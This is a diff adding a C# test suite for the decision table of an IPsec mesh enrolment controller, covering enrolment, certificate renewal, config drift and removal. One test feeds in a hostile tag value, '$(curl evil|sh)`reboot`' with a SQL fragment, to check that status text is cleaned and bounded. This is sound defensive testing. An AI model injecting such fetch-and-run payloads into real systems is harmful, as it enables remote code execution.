@@ -1,0 +1,166 @@
+using System.Text.Json.Nodes;
+using IpsecMesh.Core.Reconcile;
+using IpsecMesh.HostAgent.Protocol;
+
+namespace IpsecMesh.Core.Tests.Reconcile;
+
+/// <summary>The decision table: every phase × observation row, and what the controller does next.</summary>
+public class DeciderTests
+{
+    private static readonly DateTimeOffset Now = DateTimeOffset.Parse("2026-11-24T12:00:00Z");
+    private static readonly DecisionTimings Timings = new(TimeSpan.FromSeconds(5), TimeSpan.FromSeconds(30));
+    private static readonly DesiredState Desired = new() { ConfigHash = "cfg-current", CurrentCaId = "ca-1", RenewAfter = TimeSpan.FromDays(7) };
+    private static readonly CertificateFacts FreshCert = new("0a1b", Now.AddDays(-1), Now.AddDays(29), "names-1", "ca-1");
+
+    /// <summary>An enabled, converged instance; rows vary one thing from here.</summary>
+    private static Observation Converged(Intent intent = Intent.Enabled, string state = "running") => new()
+    {
+        InstanceId = "i-0abc",
+        Instance = new InstanceSnapshot { InstanceId = "i-0abc", State = state, Tags = new Dictionary<string, string>(), ObservedAt = Now },
+        TagValue = intent.ToString().ToLowerInvariant(),
+        Intent = intent,
+        IdentityNamesHash = "names-1",
+        AppliedConfigHash = "cfg-current",
+        InstalledCertExpiry = FreshCert.NotAfter,
+        StatusTag = StatusText.Enrolled,
+        Certificate = FreshCert,
+        AgentOnline = true,
+        SecurityChecked = true,
+        Desired = Desired,
+        Now = Now,
+    };
+
+    private static Observation Fresh(Intent intent) => Converged(intent) with
+    {
+        AppliedConfigHash = null, InstalledCertExpiry = null, Certificate = null, StatusTag = null, AgentOnline = null, SecurityChecked = false,
+    };
+
+    private static CommandSnapshot Finished(CommandStatus status, params string[] resultLines) => new()
+    {
+        CommandId = "cmd-1",
+        Verbs = resultLines.Select(l => JsonNode.Parse(l)!["verb"]!.GetValue<string>()).DefaultIfEmpty("install").ToArray(),
+        SentAt = Now.AddMinutes(-1),
+        Status = status,
+        Results = AgentResult.ParseAll(string.Join('\n', resultLines)),
+    };
+
+    private static string Ok(string verb, string fields = "") => $"{{\"ipsecMesh\":1,\"verb\":\"{verb}\",\"ok\":true{fields}}}";
+
+    private static string Fail(string verb, string code, string error) => $"{{\"ipsecMesh\":1,\"verb\":\"{verb}\",\"ok\":false,\"code\":\"{code}\",\"error\":\"{error}\"}}";
+
+    private static Decision Decide(Observation o) => Decider.Decide(o, Timings);
+
+    public static TheoryData<string, Observation, Type, string?> Table() => new()
+    {
+        // Vanished or terminated instances: revoke and forget, whatever the tag.
+        { "vanished", Converged() with { Instance = null }, typeof(Decision.Retire), null },
+        { "terminated", Converged(state: "terminated"), typeof(Decision.Retire), null },
+        { "shutting down", Converged(Intent.Todo, "shutting-down"), typeof(Decision.Retire), null },
+        // Not ours.
+        { "untagged", Converged(Intent.Absent), typeof(Decision.Idle), null },
+        { "disabled", Converged(Intent.Disabled), typeof(Decision.Idle), null },
+        { "unknown value, not yet reported", Converged(Intent.Unknown) with { TagValue = "yes please" }, typeof(Decision.Wait), "tag value 'yes please' is not one of todo, off; ignored" },
+        { "unknown value, reported", Converged(Intent.Unknown) with { TagValue = "x", StatusTag = StatusText.UnknownValue("x") }, typeof(Decision.Idle), null },
+        // todo: the enrolment path.
+        { "todo, stopped", Fresh(Intent.Todo) with { Instance = Converged(state: "stopped").Instance }, typeof(Decision.Wait), "instance is stopped; waiting for it to run" },
+        { "todo, agent not asked yet", Fresh(Intent.Todo), typeof(Decision.ObserveHost), null },
+        { "todo, agent offline", Fresh(Intent.Todo) with { AgentOnline = false, SecurityChecked = true }, typeof(Decision.Wait), StatusText.WaitingForAgent },
+        { "todo, security group blocks", Fresh(Intent.Todo) with { AgentOnline = true, SecurityChecked = true, SecurityProblem = "security group sg-1 blocks UDP 500 from the mesh" }, typeof(Decision.MarkFailed), "security group sg-1 blocks UDP 500 from the mesh" },
+        { "todo, ready", Fresh(Intent.Todo) with { AgentOnline = true, SecurityChecked = true }, typeof(Decision.Send), "install+csr" },
+        { "todo, command running", Fresh(Intent.Todo) with { Command = Finished(CommandStatus.InProgress) }, typeof(Decision.Poll), null },
+        { "todo, install+csr done", Fresh(Intent.Todo) with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\""), Ok("csr", ",\"csr\":\"MIIB\"")) }, typeof(Decision.SignAndInstall), "enrol" },
+        { "todo, install failed", Fresh(Intent.Todo) with { Command = Finished(CommandStatus.Failed, Fail("install", "install_failed", "exit 3: no package")) }, typeof(Decision.MarkFailed), "install failed: install_failed: exit 3: no package" },
+        { "todo, command timed out", Fresh(Intent.Todo) with { Command = Finished(CommandStatus.TimedOut) }, typeof(Decision.MarkFailed), "install failed: command timed out" },
+        { "todo, cert installed", Fresh(Intent.Todo) with { Command = Finished(CommandStatus.Success, Ok("install-cert", $",\"serial\":\"0a1b\",\"notAfter\":\"{FreshCert.NotAfter:O}\"")) }, typeof(Decision.MarkApplied), "enabled" },
+        { "todo, key mismatch on install-cert", Fresh(Intent.Todo) with { Command = Finished(CommandStatus.Failed, Fail("install-cert", "no_matching_key", "no key")) }, typeof(Decision.Send), "csr" },
+        { "todo, CSR already signed before a restart", Fresh(Intent.Todo) with { Certificate = FreshCert with { IssuedAt = Now.AddSeconds(-30) }, Command = Finished(CommandStatus.Success, Ok("install"), Ok("csr", ",\"csr\":\"MIIB\"")) }, typeof(Decision.InstallIssued), null },
+        // failed: retried after backoff, at once when the user says todo again.
+        { "failed, backing off", Fresh(Intent.Failed) with { RetryNotBefore = Now.AddMinutes(2) }, typeof(Decision.Backoff), null },
+        { "failed, backoff over", Fresh(Intent.Failed) with { RetryNotBefore = Now.AddSeconds(-1), AgentOnline = true, SecurityChecked = true }, typeof(Decision.Send), "install+csr" },
+        { "todo again after failed ignores backoff", Fresh(Intent.Todo) with { RetryNotBefore = Now.AddMinutes(5), AgentOnline = true, SecurityChecked = true }, typeof(Decision.Send), "install+csr" },
+        // enabled: drift repair.
+        { "enabled, converged", Converged(), typeof(Decision.Idle), null },
+        { "enabled, status says otherwise", Converged() with { StatusTag = "installing certificate" }, typeof(Decision.MarkApplied), "enabled" },
+        { "enabled, renewal due", Converged() with { Certificate = FreshCert with { IssuedAt = Now.AddDays(-7) } }, typeof(Decision.Send), "csr" },
+        { "enabled, expired", Converged() with { Certificate = FreshCert with { NotAfter = Now.AddSeconds(-1) } }, typeof(Decision.Send), "csr" },
+        { "enabled, IP set changed", Converged() with { IdentityNamesHash = "names-2" }, typeof(Decision.Send), "csr" },
+        { "enabled, config changed", Converged() with { AppliedConfigHash = "cfg-old" }, typeof(Decision.Send), "apply-config" },
+        { "enabled, config and cert both due", Converged() with { AppliedConfigHash = "cfg-old", IdentityNamesHash = "names-2" }, typeof(Decision.Send), "apply-config+csr" },
+        { "enabled, CA rotated, reissue allowed", Converged() with { Desired = Desired with { CurrentCaId = "ca-2" } }, typeof(Decision.Send), "csr" },
+        { "enabled, CA rotated, peers not ready", Converged() with { Desired = Desired with { CurrentCaId = "ca-2", CaReissueAllowed = false } }, typeof(Decision.Idle), null },
+        { "enabled, newest cert not installed", Converged() with { InstalledCertExpiry = FreshCert.NotAfter.AddDays(-7) }, typeof(Decision.InstallIssued), null },
+        { "enabled, no config tag: reinstall", Converged() with { AppliedConfigHash = null }, typeof(Decision.Send), "install+csr" },
+        { "enabled, drift but agent offline", Converged() with { AppliedConfigHash = "cfg-old", AgentOnline = false }, typeof(Decision.Wait), StatusText.WaitingForAgent },
+        { "enabled, apply-config done", Converged() with { AppliedConfigHash = "cfg-old", Command = Finished(CommandStatus.Success, Ok("apply-config", ",\"configHash\":\"cfg-current\"")) }, typeof(Decision.MarkApplied), "cfg-current" },
+        { "enabled, renewal CSR done", Converged() with { Command = Finished(CommandStatus.Success, Ok("csr", ",\"csr\":\"MIIB\"")) }, typeof(Decision.SignAndInstall), "renew" },
+        // off: removal.
+        { "off, never enrolled", Converged(Intent.Off) with { AppliedConfigHash = null, InstalledCertExpiry = null }, typeof(Decision.MarkDisabled), null },
+        { "off, enrolled", Converged(Intent.Off), typeof(Decision.Send), "uninstall" },
+        { "off, enrolled, agent not asked", Converged(Intent.Off) with { AgentOnline = null }, typeof(Decision.ObserveHost), null },
+        { "off, stopped", Converged(Intent.Off, "stopped"), typeof(Decision.Wait), "instance is stopped; waiting for it to run" },
+        { "off, uninstall done", Converged(Intent.Off) with { Command = Finished(CommandStatus.Success, Ok("uninstall")) }, typeof(Decision.MarkDisabled), null },
+        { "off, uninstall failed keeps off", Converged(Intent.Off) with { Command = Finished(CommandStatus.Failed, Fail("uninstall", "internal", "boom")) }, typeof(Decision.MarkFailed), "keep" },
+        { "off while install runs: wait for it", Converged(Intent.Off) with { Command = Finished(CommandStatus.Pending) }, typeof(Decision.Poll), null },
+    };
+
+    [Theory]
+    [MemberData(nameof(Table))]
+    public void Decides_the_next_step(string row, Observation observation, Type expected, string? detail)
+    {
+        var decision = Decide(observation);
+        Assert.True(expected == decision.GetType(), $"{row}: expected {expected.Name}, got {decision}");
+        switch (decision)
+        {
+            case Decision.Send send when detail is not null:
+                Assert.Equal(detail, string.Join('+', send.Verbs));
+                break;
+            case Decision.Wait wait when detail is not null:
+                Assert.Equal(detail, wait.Status);
+                break;
+            case Decision.MarkFailed failed when detail == "keep":
+                Assert.True(failed.KeepIntent, row);
+                break;
+            case Decision.MarkFailed failed when detail is not null:
+                Assert.Equal(detail, failed.Reason);
+                Assert.False(failed.KeepIntent, row);
+                break;
+            case Decision.MarkApplied applied when detail == "enabled":
+                Assert.True(applied.Enabled, row);
+                break;
+            case Decision.MarkApplied applied when detail is not null:
+                Assert.Equal(detail, applied.ConfigHash);
+                break;
+            case Decision.SignAndInstall sign when detail is not null:
+                Assert.Equal(detail, sign.Reason);
+                break;
+        }
+    }
+
+    [Fact]
+    public void A_converged_instance_is_looked_at_again_when_its_renewal_is_due()
+    {
+        var idle = Assert.IsType<Decision.Idle>(Decide(Converged()));
+        Assert.Equal(TimeSpan.FromDays(6), idle.RequeueAfter);
+    }
+
+    [Fact]
+    public void Controller_generated_keys_enrol_with_install_then_a_pkcs12()
+    {
+        var ready = Fresh(Intent.Todo) with { AgentOnline = true, SecurityChecked = true, Desired = Desired with { ControllerGeneratesKeys = true } };
+        Assert.Equal(["install"], Assert.IsType<Decision.Send>(Decide(ready)).Verbs);
+        var installed = ready with { Command = Finished(CommandStatus.Success, Ok("install", ",\"configHash\":\"cfg-current\"")) };
+        Assert.Equal("cfg-current", Assert.IsType<Decision.IssueKeyAndInstall>(Decide(installed)).AppliedConfigHash);
+    }
+
+    [Fact]
+    public void Hostile_tag_values_reach_the_status_only_cleaned_and_bounded()
+    {
+        var hostile = "$(curl evil|sh)`reboot`\n\"'; DROP" + new string('é', 300);
+        var wait = Assert.IsType<Decision.Wait>(Decide(Converged(Intent.Unknown) with { TagValue = hostile }));
+        Assert.DoesNotContain('$', wait.Status);
+        Assert.DoesNotContain('`', wait.Status);
+        Assert.DoesNotContain('\n', wait.Status);
+        Assert.DoesNotContain('"', wait.Status);
+        Assert.True(wait.Status.Length <= StatusText.MaxLength);
+    }
+}
